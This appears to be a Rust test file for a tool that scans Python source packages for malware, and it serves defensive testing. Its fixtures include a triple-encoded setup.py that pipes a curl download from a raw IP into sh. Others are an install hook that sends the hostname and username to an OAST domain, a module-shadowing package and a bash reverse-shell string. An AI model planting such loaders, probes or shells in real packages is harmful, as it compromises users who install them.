//! Detection end to end: packages built here in the real layout, scanned by the binary.
//! Payloads are inert text; nothing is ever run.

mod common;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use common::*;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use std::io::Write;

fn sdist(name: &str, files: &[(&str, &[u8])]) -> std::path::PathBuf {
    let top = format!("{name}-1.0.0");
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n");
    let mut all: Vec<(String, Vec<u8>)> = vec![(format!("{top}/PKG-INFO"), pkg_info.into_bytes())];
    all.extend(
        files
            .iter()
            .map(|(p, d)| (format!("{top}/{p}"), d.to_vec())),
    );
    let refs: Vec<(&str, &[u8])> = all
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let dir = temp_dir(name);
    let path = dir.join(format!("{top}.tar.gz"));
    std::fs::write(&path, gzip(&tar(&refs))).unwrap();
    path
}

#[test]
fn a_payload_wrapped_three_times_is_found_decoded_and_the_package_is_malicious() {
    let payload = "import os\nos.system('curl -s http://45.61.139.20/x | sh')\n";
    let layer1 = STANDARD.encode(payload);
    let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
    z.write_all(layer1.as_bytes()).unwrap();
    let layer2 = STANDARD.encode(z.finish().unwrap());
    let layer3 = STANDARD.encode(format!(
        "exec(zlib.decompress(base64.b64decode('{layer2}')))"
    ));
    let setup = format!(
        "from setuptools import setup\nimport base64, zlib\nexec(base64.b64decode('{layer3}'))\nsetup(name='evil')\n"
    );
    let path = sdist("evil", &[("setup.py", setup.as_bytes())]);
    let (code, report) = scan_json(&path);
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    assert_eq!(code, 1, "malicious reaches the default --fail-on");
    let pipe = finding(&report, "download/pipe-to-shell");
    assert_eq!(pipe["path"], "evil-1.0.0/setup.py");
    assert_eq!(pipe["line"], 3, "evidence points at the encoded literal");
    assert!(
        pipe["snippet"]
            .as_str()
            .unwrap()
            .contains("curl -s http://45.61.139.20/x | sh")
    );
    let chain: Vec<&str> = pipe["decoded_from"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    assert_eq!(chain, ["base64", "base64", "zlib", "base64"]);
    assert!(rules_of(&report).contains(&"correlate/hidden-behaviour".to_string()));
}

#[test]
fn a_dependency_confusion_probe_in_setup_py_is_malicious() {
    let setup = b"import socket, getpass, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Probe(install):\n    def run(self):\n        requests.get('https://x1y2.oast.fun/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n        install.run(self)\n\nsetup(name='internal-billing', version='99.0.0', cmdclass={'install': Probe})\n";
    let (_, report) = scan_json(&sdist("internal-billing", &[("setup.py", setup)]));
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    let rules = rules_of(&report);
    for expected in [
        "exfil/oast-domain",
        "correlate/host-data-and-network",
        "install/setup-cmdclass",
    ] {
        assert!(
            rules.contains(&expected.to_string()),
            "{expected} missing from {rules:?}"
        );
    }
}

/// A copy of `requests` shipped under another name overwrites the real one on install:
/// reported from the egg-info's `top_level.txt`, with the package the module belongs to.
#[test]
fn a_package_installing_a_popular_packages_module_is_reported() {
    let setup = b"from setuptools import setup\nsetup(name='netkit-tools', version='1.0.0', packages=['netkit_tools', 'requests'])\n";
    let (_, report) = scan_json(&sdist(
        "netkit-tools",
        &[
            ("setup.py", setup),
            ("netkit_tools/__init__.py", b"from .core import get\n"),
            (
                "requests/__init__.py",
                b"from netkit_tools.core import get\n",
            ),
            (
                "netkit_tools.egg-info/top_level.txt",
                b"netkit_tools\nrequests\n",
            ),
        ],
    ));
    let shadow = finding(&report, "name/module-shadowing");
    assert!(
        shadow["message"]
            .as_str()
            .unwrap()
            .contains("installs the top-level module `requests`"),
        "{shadow:#}"
    );
    assert_ne!(report["verdict"], "clean", "{report:#}");
}

#[test]
fn an_honest_package_using_network_and_processes_in_functions_is_clean() {
    let module = b"import os, subprocess, requests\n\n\ndef fetch(url):\n    \"\"\"Fetch a page.\n\n    >>> fetch('https://example.com')\n    \"\"\"\n    return requests.get(url, timeout=5).text\n\n\ndef version():\n    return subprocess.check_output(['git', 'describe']).decode()\n\n\nHOME = os.environ.get('HOME')\n";
    let setup = b"from setuptools import setup\nsetup(name='honest', version='1.0.0', packages=['honest'])\n";
    let (code, report) = scan_json(&sdist(
        "honest",
        &[("setup.py", setup), ("honest/__init__.py", module)],
    ));
    assert_eq!(report["verdict"], "clean", "{report:#}");
    assert_eq!(code, 0);
}

#[test]
fn evidence_in_docs_and_tests_weighs_less_than_in_code() {
    let readme = b"Install with:\n\n    curl -fsSL https://get.example.dev/install.sh | sh\n";
    let test = b"def test_rejects_reverse_shells():\n    assert not allowed('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n";
    let setup = b"from setuptools import setup\nsetup(name='docsy', version='1.0.0')\n";
    let (_, report) = scan_json(&sdist(
        "docsy",
        &[
            ("setup.py", setup),
            ("README.md", readme),
            ("tests/test_shell.py", test),
        ],
    ));
    assert_ne!(report["verdict"], "malicious", "{report:#}");
}
